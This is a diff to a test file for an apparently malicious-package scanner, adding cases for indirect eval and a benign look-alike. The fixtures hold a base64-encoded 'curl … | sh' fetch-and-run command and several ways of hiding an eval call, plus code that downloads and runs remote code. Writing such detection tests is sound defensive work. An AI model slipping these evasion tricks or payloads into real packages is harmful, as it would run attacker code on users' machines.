@@ -152,6 +152,16 @@ describe('code analysis: payloads on require (kind 6) and obfuscation (kinds 7, 
     expect(worst(r, 'code-remote-eval')).toBe('high');
   });
 
+  // Indirect eval: the comma form, an alias of eval, and a computed member of an alias of the global object.
+  it.each([
+    ['(0, eval)(payload)', "(0, eval)(p);\n"],
+    ['an alias of eval', "const f = eval;\nf(p);\n"],
+    ['a computed member of an alias of globalThis', "const e = 'ev' + 'al';\nconst g = globalThis;\ng[e](p);\n"],
+  ])('decoded code evaluated through %s', async (_, call) => {
+    const r = await atInstall(`const p = Buffer.from('Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g=', 'base64').toString();\n${call}`);
+    expect(worst(r, 'code-remote-eval')).toBe('critical');
+  });
+
   it('code downloaded and evaluated', async () => {
     const r = await onRequire("const https = require('https');\nhttps.get('https://example.invalid/p', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => new Function(b)()); });\n");
     expect(worst(r, 'code-remote-eval')).toBe('high');
@@ -199,6 +209,8 @@ describe('code analysis: benign look-alikes stay below medium', () => {
     ['a proxy read from the environment by an HTTP client', "const https = require('https');\nconst proxy = process.env.HTTPS_PROXY || process.env.https_proxy;\nmodule.exports = (u) => https.get(u, { agent: proxy ? makeAgent(proxy) : undefined });\n"],
     ['a child inheriting the environment', "const { spawn } = require('child_process');\nmodule.exports = () => spawn('git', ['status'], { env: process.env, stdio: 'inherit' });\n"],
     ['new Function building a template', "module.exports = (src) => new Function('data', 'return `' + src + '`');\n"],
+    // The shape of a schema validator compiler: the function new Function returned is called with values.
+    ['calling what new Function returned', "const b = Buffer.from(process.argv[2] || '', 'base64').toString();\nconst compiled = new Function('self', 'return 1');\nmodule.exports = compiled(b);\n"],
   ];
   for (const [name, code] of benign) {
     it(name, async () => {
